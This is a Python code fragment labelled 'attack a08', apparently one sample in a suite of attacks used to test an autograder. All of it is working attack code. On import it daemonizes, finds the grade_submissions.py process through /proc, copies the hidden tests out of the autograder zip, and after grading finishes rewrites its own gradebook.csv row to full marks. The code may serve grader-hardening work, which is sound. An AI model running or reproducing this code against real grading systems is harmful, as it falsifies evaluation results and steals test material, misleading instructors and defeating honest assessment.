

# ---- attack a08 (batch grading without root, e.g. an instructor's laptop): a process started while
# the learner's file is imported (already in the grader's import probe) leaves the child's session,
# waits for tools/grade_submissions.py to finish, and gives its own row of gradebook.csv full marks.
# It also copies the hidden tests out of the autograder zip named on grade_submissions' command line. ----
def _a08():
    import os
    import sys
    import time
    mine = open(__file__, "rb").read() if "__file__" in globals() else None
    if mine is None or os.environ.get("A08_DONE"):
        return
    os.environ["A08_DONE"] = "1"
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    os.environ["A08_DONE"] = "daemon"
    sys.stdout = sys.stderr = open(os.devnull, "w")

    def batch_process():
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
                except OSError:
                    continue
                if (os.stat(f"/proc/{pid}").st_uid == os.getuid() and b"python" in argv[0]
                        and any(a.endswith(b"grade_submissions.py") for a in argv)):
                    return int(pid), [a.decode() for a in argv if a]
        return None, None

    pid, argv = batch_process()
    if pid is None:
        os._exit(0)
    try:
        cwd = os.readlink(f"/proc/{pid}/cwd")
    except OSError:  # denied from a user namespace: paths given in full on the command line still work
        cwd = "/"
    args = argv[argv.index(next(a for a in argv if a.endswith("grade_submissions.py"))) + 1:]
    folder = os.path.join(cwd, args[0])
    out = os.path.join(cwd, args[args.index("--out") + 1]) if "--out" in args else os.path.join(cwd, "gradebook.csv")
    zpath = os.path.join(cwd, args[args.index("--autograder") + 1]) if "--autograder" in args else None
    import zipfile
    if zpath:  # the hidden tests, in the clear
        with zipfile.ZipFile(zpath) as z:
            for n in z.namelist():
                if n.startswith("hidden/"):
                    os.makedirs("@MARKERS@/a08-hidden", exist_ok=True)
                    open(os.path.join("@MARKERS@/a08-hidden", os.path.basename(n)), "wb").write(z.read(n))
    me = None
    for entry in sorted(os.listdir(folder)):
        p = os.path.join(folder, entry)
        if os.path.isdir(p):
            for d, _, fs in os.walk(p):
                if any(open(os.path.join(d, f), "rb").read() == mine for f in fs if f.endswith(".py")):
                    me = entry
        elif entry.endswith(".zip"):
            with zipfile.ZipFile(p) as z:
                if any(z.read(n) == mine for n in z.namelist() if n.endswith(".py")):
                    me = entry
    while os.path.exists(f"/proc/{pid}"):
        time.sleep(0.2)
    import csv
    rows = list(csv.reader(open(out, newline="")))
    head = rows[0]
    for r in rows[1:]:
        if r[0] == me:
            r[1] = r[2]
            r[-1] = ""
    with open(out, "w", newline="") as f:
        csv.writer(f).writerows(rows)
    os._exit(0)


try:
    _a08()
except Exception:
    import os as _os
    import traceback as _tb
    with open("@MARKERS@/a08.log", "a") as _f:
        _f.write(_tb.format_exc())
    if _os.environ.get("A08_DONE") == "daemon":
        _os._exit(0)
